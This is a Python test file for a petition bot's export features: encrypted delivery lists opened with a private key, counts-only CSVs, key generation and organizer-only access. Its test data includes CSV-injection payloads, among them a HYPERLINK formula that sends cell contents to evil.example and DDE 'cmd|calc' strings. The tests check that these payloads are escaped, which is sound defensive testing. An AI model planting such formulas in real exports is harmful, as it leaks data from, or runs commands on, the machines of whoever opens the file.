"""Exports: the sealed delivery list, opened only by `python -m bot export` with the private key;
counts-only CSVs with no key; CSV injection escaped; `keys new`."""

from __future__ import annotations

import argparse
import csv
import gzip
import io
import json
import stat
from pathlib import Path

import pytest

from bot import keys_cli
from bot.db import Database
from bot.domain.errors import InvalidInput, NotAnOrganizer
from bot.domain.signers import parse_details
from bot.services import exports as exports_service
from tests.conftest import FakeClock, member, organizer
from tests.db.signers_support import DRAFT, Keys, build, keys, snapshot

__all__ = ["keys"]

EVIL = [
    ('=HYPERLINK("http://evil.example/?"&A1)', "02134", "evil1@example.org"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "02135", "evil2@example.org"),
]


async def delivery_setup(db: Database, clock: FakeClock, keys: Keys, tmp_path: Path) -> str:
    """A petition signed by an imported list (one formula-like name is rejected there) and by
    members whose sealed names look like formulas (the modal refuses them; sealed directly)."""
    services = build(db, clock, keys)
    petition = await services.petitions.create(organizer(), DRAFT)
    path = tmp_path / "list.csv"
    path.write_text(
        "name,zip,email,created_at\n"
        "Anna Kowalska,02134,anna@example.org,2026-11-01 09:00:00\n"
        "Янка Іваноў,220004,,2026-11-02 09:00:00\n",
        encoding="utf-8",
    )
    await services.imports.run(organizer(), petition.code, path, "list.csv")
    sealer = keys.sealer
    for n, (name, postal, email) in enumerate(EVIL):
        await services.petitions.sign(member(100 + n), petition.id)
        async with db.transaction() as conn:
            await conn.execute(
                "UPDATE signers SET sealed_name = ?, sealed_postal_code = ?, sealed_email = ? "
                "WHERE id = (SELECT signer_id FROM member_links WHERE user_id = ?)",
                (sealer.seal(name), sealer.seal(postal), sealer.seal(email), 100 + n),
            )
    await services.petitions.sign(member(200), petition.id)  # no details given
    return petition.code


async def test_sealed_delivery_list_opens_only_on_the_organizers_machine(
    db: Database, clock: FakeClock, keys: Keys, tmp_path: Path
) -> None:
    code = await delivery_setup(db, clock, keys, tmp_path)
    services = build(db, clock, keys)
    made = await services.exports.delivery_list(organizer(), code)
    assert (made.rows, made.without_details) == (4, 1)
    text = made.data.decode()
    for plain in ("Anna", "Kowalska", "02134", "Іваноў", "HYPERLINK", "example.org"):
        assert plain not in text
    body = json.loads(text)
    assert body["columns"] == ["name", "postal_code", "signed_at"]
    async with db.read() as conn:
        audit = await conn.fetchone("SELECT action, details FROM audit_log ORDER BY id DESC")
    assert audit is not None and audit[0] == "signers.export"
    assert json.loads(audit[1]) == {"rows": 4, "email": False}

    key_file = tmp_path / "org.key"
    key_file.write_text(keys.private + "\n", encoding="ascii")
    sealed = tmp_path / made.file_name
    sealed.write_bytes(made.data)
    args = argparse.Namespace(command="export", private_key=[key_file], sealed=sealed, output=None)
    out, err = io.StringIO(), io.StringIO()
    assert keys_cli.run(args, out, err) == 0, err.getvalue()
    written = sealed.with_suffix(".csv")
    assert stat.S_IMODE(written.stat().st_mode) == 0o600
    rows = list(csv.reader(io.StringIO(written.read_text(encoding="utf-8-sig"))))
    assert rows[0] == ["name", "postal_code", "signed_at"]
    assert [r[:2] for r in rows[1:]] == [
        ["Anna Kowalska", "02134"],
        ["Янка Іваноў", "220004"],
        ["'" + EVIL[0][0], "02134"],  # escaped: a spreadsheet shows it, never runs it
        ["'" + EVIL[1][0], "02135"],
    ]
    assert "4 rows" in out.getvalue()

    # with emails, on request only
    with_email = await services.exports.delivery_list(organizer(), code, include_email=True)
    opened = keys_cli.open_export(json.loads(with_email.data), keys.unsealer)
    assert opened[0][-1] == "email" and opened[1][0][-1] == "anna@example.org"
    assert opened[1][1][-1] == ""


async def test_the_cli_refuses_a_wrong_key_or_file_clearly(
    db: Database, clock: FakeClock, keys: Keys, tmp_path: Path
) -> None:
    code = await delivery_setup(db, clock, keys, tmp_path)
    made = await build(db, clock, keys).exports.delivery_list(organizer(), code)
    sealed = tmp_path / "sealed.json"
    sealed.write_bytes(made.data)
    other = tmp_path / "other.key"
    assert keys_cli.keys_new(other, io.StringIO()) == 0
    cases = [
        (other, sealed, "was not sealed for the private key(s) given"),
        (tmp_path / "missing.key", sealed, "cannot read the private key"),
        (sealed, sealed, "base64 of 32 bytes"),
    ]
    notjson = tmp_path / "notes.json"
    notjson.write_text("hello", encoding="utf-8")
    key_file = tmp_path / "org.key"
    key_file.write_text(keys.private, encoding="ascii")
    cases.append((key_file, notjson, "not a Rally sealed export"))
    for key, path, words in cases:
        err = io.StringIO()
        args = argparse.Namespace(
            command="export", private_key=[key], sealed=path, output=tmp_path / "out.csv"
        )
        assert keys_cli.run(args, io.StringIO(), err) == 2
        assert words in err.getvalue()
    assert not (tmp_path / "out.csv").exists()


async def test_large_lists_are_gzipped_and_still_open(
    db: Database, clock: FakeClock, keys: Keys, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    code = await delivery_setup(db, clock, keys, tmp_path)
    monkeypatch.setattr(exports_service, "GZIP_ABOVE", 100)
    made = await build(db, clock, keys).exports.delivery_list(organizer(), code)
    assert made.file_name.endswith(".json.gz") and made.data[:2] == b"\x1f\x8b"
    body = keys_cli.read_export(_write(tmp_path / made.file_name, made.data))
    assert body == json.loads(gzip.decompress(made.data))


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


async def test_counts_need_no_key_and_escape_team_names(
    db: Database, clock: FakeClock, tmp_path: Path
) -> None:
    services = build(db, clock, None)  # no public key at all
    petition = await services.petitions.create(organizer(), DRAFT)
    for user in (1, 2, 3):
        await services.petitions.sign(member(user), petition.id)
    clock.advance(days=1)
    path = tmp_path / "paper.csv"
    path.write_text("name,zip,referral\nA One,10001,TEAM1\nB Two,10002,\n", encoding="utf-8")
    async with db.transaction() as conn:
        drive = await conn.execute(
            "INSERT INTO drives (guild_id, petition_id, name, goal, starts_at, ends_at, "
            "channel_id, created_by, created_at) VALUES (1001, ?, 'Week', 10, '2026-11-01', "
            "'2026-12-01', 5, 1, '2026-11-01')",
            (petition.id,),
        )
        team = await conn.execute(
            "INSERT INTO teams (drive_id, name, name_key, created_at) "
            "VALUES (?, '=cmd|calc', 'cmd', 'x')",
            (drive,),
        )
        participant = await conn.execute(
            "INSERT INTO drive_participants (drive_id, user_id, team_id, joined_at) "
            "VALUES (?, 9, ?, 'x')",
            (drive, team),
        )
        await conn.execute(
            "INSERT INTO referral_codes (drive_id, participant_id, code, created_at) "
            "VALUES (?, ?, 'TEAM1', 'x')",
            (drive, participant),
        )
    await services.imports.run(organizer(), petition.code, path, "paper.csv")

    def table(data: bytes) -> list[list[str]]:
        return list(csv.reader(io.StringIO(data.decode())))

    by_day = await services.exports.counts(organizer(), petition.code, "day")
    assert table(by_day.data) == [["day", "signatures"], ["2026-11-24", "3"], ["2026-11-25", "2"]]
    by_source = await services.exports.counts(organizer(), petition.code, "source")
    assert table(by_source.data) == [["source", "signatures"], ["discord", "3"], ["import", "2"]]
    by_team = await services.exports.counts(organizer(), petition.code, "team")
    assert table(by_team.data) == [["team", "signatures"], ["", "4"], ["'=cmd|calc", "1"]]

    before = await snapshot(db)
    with pytest.raises(InvalidInput):
        await services.exports.counts(organizer(), petition.code, "name")
    with pytest.raises(NotAnOrganizer):
        await services.exports.counts(member(1), petition.code, "day")
    with pytest.raises(NotAnOrganizer):
        await services.exports.delivery_list(member(1), petition.code)
    assert await snapshot(db) == before


def test_keys_new_writes_an_owner_only_key_and_prints_the_env_lines(tmp_path: Path) -> None:
    path = tmp_path / "rally-private.key"
    out = io.StringIO()
    assert keys_cli.keys_new(path, out) == 0
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    lines = dict(
        line.split("=", 1)
        for line in out.getvalue().splitlines()
        if line.startswith("RALLY_") and "=" in line
    )
    assert set(lines) == {"RALLY_PUBLIC_KEY", "RALLY_HASH_KEY"}
    assert path.read_text().strip() not in out.getvalue()
    from bot.domain.sealing import Sealer, Unsealer, load_private_key, load_public_key

    sealed = Sealer(load_public_key(lines["RALLY_PUBLIC_KEY"])).seal("Anna")
    assert Unsealer(load_private_key(path.read_text())).open(sealed) == "Anna"
    err = io.StringIO()
    args = argparse.Namespace(command="keys", keys_command="new", private_key=path)
    assert keys_cli.run(args, io.StringIO(), err) == 2
    assert "will not overwrite" in err.getvalue()


async def test_member_details_feed_the_delivery_list(
    db: Database, clock: FakeClock, keys: Keys
) -> None:
    services = build(db, clock, keys)
    petition = await services.petitions.create(organizer(), DRAFT)
    await services.signers.save_details(
        member(5), parse_details(name="Ben Ivanou", postal_code="220030")
    )
    await services.petitions.sign(member(5), petition.id)
    made = await services.exports.delivery_list(organizer(), petition.code)
    _, rows = keys_cli.open_export(json.loads(made.data), keys.unsealer)
    assert [r[:2] for r in rows] == [["Ben Ivanou", "220030"]]
